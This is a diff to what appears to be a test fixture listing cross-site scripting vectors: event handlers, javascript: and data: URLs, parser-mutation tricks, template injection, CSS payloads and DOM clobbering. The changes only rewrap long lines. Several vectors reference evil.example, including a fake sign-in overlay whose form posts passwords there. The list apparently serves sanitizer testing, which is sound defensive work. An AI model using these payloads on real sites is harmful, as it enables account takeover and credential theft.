@@ -1,6 +1,7 @@
 /**
- * Script injection vectors, one per line. Each contains a call that sets `parent.hit` to its
- * number. In the page `parent` is the page; in a separate frame the same line must throw.
+ * Script injection vectors, one per line; a backslash at the end joins two lines. Each contains a
+ * call that sets `parent.hit` to its number. In the page `parent` is the page; in a separate frame
+ * the same line must throw.
  *
  * The groups: handlers, elements, addresses, encodings, foreign content, mutation by reparsing,
  * templates, styles, and page takeovers without any script. `HIT` is replaced by the call.
@@ -44,7 +45,8 @@ const handlers = `
 <svg><a><rect width=9 height=9 onmouseover=HIT></a></svg>
 <details open ontoggle=HIT>x</details>
 <details ontoggle=HIT open><summary>x
-<dialog open oncancel=HIT onclose=HIT><form method=dialog><button autofocus>x</button></form></dialog>
+<dialog open oncancel=HIT onclose=HIT><form method=dialog><button autofocus>x</button></form>\
+</dialog>
 <input autofocus onfocus=HIT>
 <input onblur=HIT autofocus><input autofocus>
 <select autofocus onfocus=HIT></select>
@@ -60,7 +62,8 @@ const handlers = `
 <style>@keyframes k{}</style><b style="animation-name:k" onanimationstart=HIT>x</b>
 <b style="animation:k 1s" onanimationend=HIT onwebkitanimationstart=HIT>x</b>
 <style>:target{color:red}</style><b style="transition:color 1s" ontransitionend=HIT id=t>x</b>
-<div onscroll=HIT style="overflow:scroll;height:9px"><p style="height:99px"><a autofocus href=#>x</a></div>
+<div onscroll=HIT style="overflow:scroll;height:9px"><p style="height:99px"><a autofocus href=#>x\
+</a></div>
 <div onpointerover=HIT onmouseenter=HIT onwheel=HIT>x</div>
 <iframe onload=HIT></iframe>
 <iframe src=about:blank onload=HIT></iframe>
@@ -75,7 +78,8 @@ const handlers = `
 <script src="data:text/javascript," onload=HIT></script>
 <track src=x onerror=HIT><video><track default src=x onerror=HIT></video>
 <div oncontentvisibilityautostatechange=HIT style="content-visibility:auto">x</div>
-<button popovertarget=p onclick=HIT>x</button><div popover id=p onbeforetoggle=HIT ontoggle=HIT>x</div>
+<button popovertarget=p onclick=HIT>x</button><div popover id=p onbeforetoggle=HIT ontoggle=HIT>x\
+</div>
 <form onsubmit=HIT onformdata=HIT><input type=submit autofocus></form>
 <xss onafterscriptexecute=HIT><script>1</script></xss>
 <x onclick=HIT>click</x>
@@ -99,7 +103,8 @@ const scripts = `
 <script src="javascript:HIT"></script>
 <script language=vbscript>HIT</script>
 <script nomodule>HIT</script>
-<script type=importmap>{"imports":{"x":"data:text/javascript,HIT"}}</script><script type=module>import "x"</script>
+<script type=importmap>{"imports":{"x":"data:text/javascript,HIT"}}</script><script \
+type=module>import "x"</script>
 <script><!--
 HIT
 --></script>
@@ -117,7 +122,8 @@ HIT
 \${HIT}{{HIT}}<%= HIT %>#{HIT}
 {{constructor.constructor('HIT')()}}
 {{$on.constructor('HIT')()}}
-<div ng-app ng-csp><b ng-click="$event.view.hit=HERE" ng-init="constructor.constructor('HIT')()">{{1}}</b></div>
+<div ng-app ng-csp><b ng-click="$event.view.hit=HERE" \
+ng-init="constructor.constructor('HIT')()">{{1}}</b></div>
 `;
 
 const addresses = `
@@ -148,8 +154,10 @@ const addresses = `
 <svg><a href="javascript:HIT"><text y=9>x</text></a></svg>
 <svg><a xlink:href="javascript:HIT"><text y=9>x</text></a></svg>
 <svg><a><animate attributeName=href values="javascript:HIT" /><text y=9>x</text></a></svg>
-<svg><a xlink:href=#><set attributeName=xlink:href to="javascript:HIT" /><text y=9>x</text></a></svg>
-<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='HIT'/></svg>#x"></use></svg>
+<svg><a xlink:href=#><set attributeName=xlink:href to="javascript:HIT" /><text y=9>x</text></a>\
+</svg>
+<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image \
+href='x' onerror='HIT'/></svg>#x"></use></svg>
 <svg><foreignObject><iframe src="javascript:HIT"></iframe></foreignObject></svg>
 <math href="javascript:HIT">x</math>
 <math><mi xlink:href="javascript:HIT">x</mi></math>
@@ -161,7 +169,8 @@ const addresses = `
 <iframe src="data:text/html,<script>HIT</script>"></iframe>
 <iframe srcdoc="<script>HIT</script>"></iframe>
 <iframe srcdoc="&lt;img src=x onerror=parent.HIT&gt;"></iframe>
-<iframe srcdoc="<script>top.hit=HERE</script>" sandbox="allow-scripts allow-same-origin allow-top-navigation"></iframe>
+<iframe srcdoc="<script>top.hit=HERE</script>" sandbox="allow-scripts allow-same-origin \
+allow-top-navigation"></iframe>
 <iframe src="//evil.example/x" name="parent" allow="camera *"></iframe>
 <frame src="javascript:HIT">
 <object data="javascript:HIT"></object>
@@ -176,7 +185,8 @@ const addresses = `
 <form id=f></form><button form=f formaction="javascript:HIT">x</button>
 <isindex type=image src=1 onerror=HIT action="javascript:HIT">
 <input type=image src=x onerror=HIT formaction="javascript:HIT">
-<area href="javascript:HIT" shape=default><map name=m><area href="javascript:HIT"></map><img usemap=#m src=x>
+<area href="javascript:HIT" shape=default><map name=m><area href="javascript:HIT"></map><img \
+usemap=#m src=x>
 <link rel=stylesheet href="javascript:HIT">
 <link rel=import href="data:text/html,<script>HIT</script>">
 <link rel=preload as=script href="data:text/javascript,HIT" onload=HIT>
@@ -204,7 +214,8 @@ const parsing = `
 <svg><style><img src=x onerror=HIT></style></svg>
 <svg><title><style><img src=x onerror=HIT></style></title></svg>
 <svg><desc><noembed><style></noembed><img src=x onerror=HIT></style></desc></svg>
-<math><annotation-xml encoding="text/html"><style><img src=x onerror=HIT></style></annotation-xml></math>
+<math><annotation-xml encoding="text/html"><style><img src=x onerror=HIT></style>\
+</annotation-xml></math>
 <math><annotation-xml><svg><style><img title="</style><img src=x onerror=HIT>">
 <noscript><style></noscript><img src=x onerror=HIT>
 <noembed><img title="</noembed><img src=x onerror=HIT>"></noembed>
@@ -251,9 +262,11 @@ const styles = `
 <b style="background:url(javascript:HIT)">x</b>
 <b style="width:expression(HIT)">x</b>
 <b style="-moz-binding:url(//evil.example/x.xml#x);behavior:url(x.htc)">x</b>
-<div style="position:fixed;inset:0;z-index:99999;background:white">Your session is over. Sign in:</div>
+<div style="position:fixed;inset:0;z-index:99999;background:white">Your session is over. Sign in:\
+</div>
 <form action=//evil.example><input name=user><input type=password name=password></form>
-<form id=body name=parentNode><input name=attributes><input name=nodeName><input id=children name=removeChild></form>
+<form id=body name=parentNode><input name=attributes><input name=nodeName><input id=children \
+name=removeChild></form>
 <a id=defaultView name=location href="//evil.example"></a><a id=hit name=hit href=x></a>
 <img name=cookie><img name=getElementById><img id=currentScript>
 <tiding-notebook note="2ABCDEFGH" server="//evil.example"></tiding-notebook>
